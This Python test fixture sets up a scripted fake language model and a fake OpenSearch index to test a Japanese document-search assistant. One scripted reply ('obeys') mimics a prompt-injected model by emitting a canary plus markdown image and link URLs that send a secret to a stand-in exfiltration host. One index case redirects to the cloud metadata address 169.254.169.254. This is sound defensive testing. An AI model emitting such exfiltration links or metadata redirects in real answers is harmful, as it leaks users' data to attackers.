"""A scripted model and a scripted index on real sockets, for the search of documents."""

import asyncio
import json
import re
import threading
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, RedirectResponse, Response, StreamingResponse
from starlette.routing import Route
from starlette.types import Receive, Scope, Send

from tests.injections import CANARY, EXFILTRATION

Json = dict[str, Any]

USAGE = {"prompt_tokens": 100, "completion_tokens": 10, "total_tokens": 110}
INVENTED = "年次有給休暇は99日です。[1]"


def first_sentence(prompt: str) -> str:
    """Of the first passage, as it stands there."""
    text = re.search(r'number="1">\n.*?\n(.*?)[。\n]', prompt, re.DOTALL)
    return f"{text.group(1)}。" if text else "?"


SCRIPTS: dict[str, Callable[[str], str]] = {
    "quotes": lambda prompt: f"{first_sentence(prompt)}[1][42]",
    "invents": lambda prompt: INVENTED,
    "mixes": lambda prompt: f"{first_sentence(prompt)}[1] {INVENTED}",
    "thinks": lambda prompt: f"<think>I invent 99. </think>{first_sentence(prompt)}【1】",
    "refuses": lambda prompt: "NOT_FOUND",
    "obeys": lambda prompt: (
        f"{CANARY}\n\n![x]({EXFILTRATION}/x.png?q=secret) [here]({EXFILTRATION}/login) "
        f"<img src='{EXFILTRATION}/y.gif'> {EXFILTRATION}/bare\n\n{first_sentence(prompt)} [1]"
    ),
    "silent": lambda prompt: "",
}
PLANS = {
    "plans": {"question": "", "queries": ["育児休業 期間"]},
    "resolves": {"question": "育児休業の期間は?", "queries": []},
}


@dataclass
class ScriptedModel:
    """Behaves as the upstream model's name says. `asked`: the bodies of requests; `closed`: someone left early."""

    asked: list[Json] = field(default_factory=list)
    closed: threading.Event = field(default_factory=threading.Event)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        app = Starlette(routes=[Route("/v1/chat/completions", self.chat, methods=["POST"])])
        await app(scope, receive, send)

    @property
    def prompts(self) -> list[str]:
        """What was said to the model when it wrote an answer."""
        return [prompt_of(body) for body in self.asked if "searches of a company" not in prompt_of(body)]

    async def chat(self, request: Request) -> Response:
        body = await request.json()
        self.asked.append(body)
        prompt, script = prompt_of(body), str(body["model"])
        if script == "fails":
            return JSONResponse({"error": {"message": "out of memory", "code": "oom"}}, 500)
        if "searches of a company" in prompt:
            said = json.dumps(PLANS[script], ensure_ascii=False) if script in PLANS else "I would rather not {plan}."
            return StreamingResponse(self.stream([said]), media_type="text/event-stream")
        if script in ("slow", "dies"):
            return StreamingResponse(self.broken(prompt, script), media_type="text/event-stream")
        said = SCRIPTS.get(script, SCRIPTS["quotes"])(prompt)
        return StreamingResponse(self.stream(re.findall(r".{1,3}", said, re.DOTALL)), media_type="text/event-stream")

    async def stream(self, words: list[str]) -> AsyncIterator[bytes]:
        for word in words:
            yield chunk([{"index": 0, "delta": {"content": word}, "finish_reason": None}])
        yield chunk([{"index": 0, "delta": {}, "finish_reason": "stop"}])
        yield chunk([], usage=USAGE)
        yield b"data: [DONE]\n\n"

    async def broken(self, prompt: str, script: str) -> AsyncIterator[bytes]:
        """Says a sentence, and then nothing more, or what no JSON is."""
        said = f"{first_sentence(prompt)}[1]\n\n次の"
        try:
            yield chunk([{"index": 0, "delta": {"content": said}, "finish_reason": None}])
            if script == "dies":
                raise ConnectionResetError
            await asyncio.sleep(60)
        except asyncio.CancelledError:
            self.closed.set()
            raise


def prompt_of(body: Json) -> str:
    return "\n".join(str(message["content"]) for message in body["messages"])


def chunk(choices: list[Json], **more: Any) -> bytes:
    about = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    return b"data: " + json.dumps({**about, "choices": choices, **more}, ensure_ascii=False).encode() + b"\n\n"


HIT = {
    "title": "旅費規程",
    "content": "宿泊費の上限は12,300円です。日当は別に定めます。",
    "url": "https://docs.example.com/travel",
}


@dataclass
class ScriptedIndex:
    """OpenSearch's answer to a search, or what goes wrong, as the index is called."""

    key: str
    asked: list[Json] = field(default_factory=list)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        app = Starlette(routes=[Route("/{index}/_search", self.search, methods=["POST"])])
        await app(scope, receive, send)

    async def search(self, request: Request) -> Response:
        index = request.path_params["index"]
        if request.headers.get("authorization") != self.key:
            return JSONResponse({"error": "security_exception"}, 401)
        self.asked.append(await request.json())
        answers: dict[str, Callable[[], Response]] = {
            "missing": lambda: JSONResponse({"error": "index_not_found_exception"}, 404),
            "broken": lambda: JSONResponse({"error": "all shards failed"}, 503),
            "garbage": lambda: Response(b"<html>login</html>", media_type="text/html"),
            "elsewhere": lambda: RedirectResponse("http://169.254.169.254/latest/meta-data"),
            "endless": lambda: Response(b'{"hits": "' + b"x" * 11_000_000 + b'"}'),
        }
        hits = {"total": {"value": 1}, "hits": [{"_index": index, "_id": "1", "_source": HIT}]}
        return answers.get(index, lambda: JSONResponse({"hits": hits}))()
